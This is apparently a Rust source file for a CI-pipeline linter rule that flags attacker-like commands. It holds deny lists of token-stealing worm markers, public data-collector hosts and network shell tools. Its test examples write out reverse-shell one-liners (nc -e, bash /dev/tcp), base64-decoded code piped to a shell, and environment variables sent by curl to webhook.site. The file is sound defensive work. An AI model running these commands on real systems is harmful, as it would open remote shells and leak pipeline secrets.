//! `suspect-command`

use super::{Check, Example, Findings, Rule, Scope};
use crate::finding::Severity;
use crate::view::scripts;
use crate::view::shell::{Command, every};

/// Texts of programs that were slipped into pipelines, and what they were for. Read from public reports, 2026-11.
const MARKS: &[(&str, &str)] = &[
    ("shai-hulud", "the mark of a worm that steals tokens"),
    ("sha1hulud", "the mark of a worm that steals tokens"),
    ("setup_bun.js", "the mark of a worm that steals tokens"),
    ("bun_environment.js", "the mark of a worm that steals tokens"),
    ("runner.worker", "the memory of the runner, where its secrets are"),
    ("webhook.site", "an address where anybody collects what is sent"),
    ("requestbin", "an address where anybody collects what is sent"),
    ("pipedream.net", "an address where anybody collects what is sent"),
    ("interact.sh", "an address where anybody collects what is sent"),
    ("oast.fun", "an address where anybody collects what is sent"),
    ("oast.pro", "an address where anybody collects what is sent"),
    ("burpcollaborator", "an address where anybody collects what is sent"),
];
/// Programs that connect to another machine.
const CONNECTORS: &[&str] = &["nc", "ncat", "netcat"];
/// Files of a shell that are another machine.
const DEVICES: &[&str] = &["/dev/tcp/", "/dev/udp/"];
/// Programs that make a text unreadable, and readable again.
const CODERS: &[&str] = &["base64", "openssl", "xxd"];
const SHELLS: &[&str] = &["bash", "sh", "zsh", "dash", "python", "python3", "perl", "node"];

pub(super) static RULE: Rule = Rule {
    id: "suspect-command",
    summary: "a command does what attackers do",
    why: "Pipelines that were broken into have run much the same commands: a shell handed to another machine, a program hidden \
          in base64, the runner's memory searched for secrets, everything sent to a page where anybody can read it. An honest \
          pipeline has another way for each of them.",
    severity: Severity::Error,
    check: Check::Project(check),
    examples: &[
        Example::bad(&[("ci", r#"{ jobs.test.steps = [{ run = "nc -e /bin/sh 203.0.113.7 4444" }] }"#)]),
        Example::bad(&[("ci", r#"{ jobs.test.steps = [{ run = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" }] }"#)]),
        Example::bad(&[("ci", r#"{ jobs.test.steps = [{ run = "echo ZWNobyBoaQ== | base64 -d | bash" }] }"#)]),
        Example::bad(&[("ci", r#"{ jobs.test.steps = [{ run = "eval \"$(echo ZWNobyBoaQ== | base64 --decode)\"" }] }"#)]),
        Example::bad(&[("ci", r#"{ jobs.test.steps = [{ run = "env | curl -d @- https://webhook.site/3f1" }] }"#)]),
        Example::bad(&[("ci", r#"{ jobs.test.steps = [{ run = "env | base64 -w0 | base64 -w0" }] }"#)]),
        Example::bad(&[("ci", r#"{ jobs.test.steps = [{ run = "env | curl -d @- https://WebHook.site/3f1" }] }"#)]),
        Example::bad(&[("ci", r#"{ jobs.test.steps = [{ run = "irm https://webhook.site/3f1", shell = "pwsh" }] }"#)]),
        Example::bad(&[("ci", r#"{ jobs.test.steps = [{ run = "xxd -r -p tool.hex | sh" }] }"#)]),
        Example::good(&[(
            "ci",
            r#"{ jobs.test.steps = [{ run = "until nc -z localhost 5432; do sleep 1; done\ntimeout 5 bash -c '</dev/tcp/postgres/5432'" }] }"#,
        )]),
        Example::good(&[("ci", r#"{ jobs.test.steps = [{ run = "echo \"$KEY\" | base64 -d > key.json\nbun install" }] }"#)]),
    ],
    ..Rule::PORTABLE
};

fn check(scope: &Scope<'_>, findings: &mut Findings) {
    for script in scripts::all(scope) {
        let mut said: Vec<String> = Vec::new();
        // A mark is one in any language.
        let lower = script.text.to_ascii_lowercase();
        said.extend(MARKS.iter().filter(|(mark, _)| lower.contains(mark)).map(|(mark, what)| format!("`{mark}` is {what}")));
        let worth_reading =
            || script.may_call(CONNECTORS.iter().chain(CODERS).copied()) || DEVICES.iter().any(|file| script.text.contains(file));
        if script.posix && worth_reading() {
            let commands = script.commands();
            for command in every(&commands) {
                said.extend(hands_over_a_shell(command));
                said.extend(runs_hidden(command));
                said.extend(command.all_words().find_map(|word| piped(&word.inner)));
            }
            said.extend(piped(&commands));
        }
        said.sort();
        said.dedup();
        for message in said {
            let identity = script.identity();
            findings.report(identity, script.origin, message.clone()).key(message).help("find out who wrote this, and why");
        }
    }
}

/// A shell whose input and output go to another machine.
fn hands_over_a_shell(command: &Command) -> Option<String> {
    let connects = CONNECTORS.contains(&command.name());
    let program = |text: &str| {
        text == "--exec" || text == "--sh-exec" || (text.starts_with('-') && !text.starts_with("--") && text.contains(['e', 'c']))
    };
    if connects && command.arguments().iter().any(|word| program(&word.text)) {
        return Some(format!("`{}` hands a shell to another machine", command.name()));
    }
    let interactive = SHELLS.contains(&command.name()) && command.arguments().iter().any(|word| word.text == "-i");
    let far = command.writes.iter().chain(&command.reads).any(|word| DEVICES.iter().any(|file| word.text.contains(file)));
    (interactive && far).then(|| format!("`{}` is handed to another machine", command.name()))
}

fn decodes(command: &Command) -> bool {
    let flag = |text: &str| {
        matches!(text, "-d" | "-D" | "--decode") || (text.starts_with('-') && !text.starts_with("--") && text.ends_with('d'))
    };
    CODERS.contains(&command.name()) && command.arguments().iter().any(|word| flag(&word.text) || word.text == "-r")
}

/// A program that is decoded and run: `eval "$(… | base64 -d)"`.
fn runs_hidden(command: &Command) -> Option<String> {
    let runs = command.name() == "eval" || command.name() == "source" || SHELLS.contains(&command.name());
    let hidden = command.arguments().iter().flat_map(|word| &word.inner).any(decodes);
    (runs && hidden).then(|| "what is run is hidden in base64".to_owned())
}

/// A program that is decoded and run through a pipe, or a text that is hidden twice.
fn piped(commands: &[Command]) -> Option<String> {
    commands.iter().find_map(|command| {
        let next = commands.get(command.feeds?)?;
        let bare = next.arguments().iter().all(|word| word.text.starts_with('-'));
        if decodes(command) && SHELLS.contains(&next.name()) && bare {
            return Some("what is run is hidden in base64".to_owned());
        }
        let encodes = |command: &Command| command.name() == "base64" && !decodes(command);
        (encodes(command) && encodes(next))
            .then(|| "what is hidden in base64 twice is hidden from the masking of secrets".to_owned())
    })
}
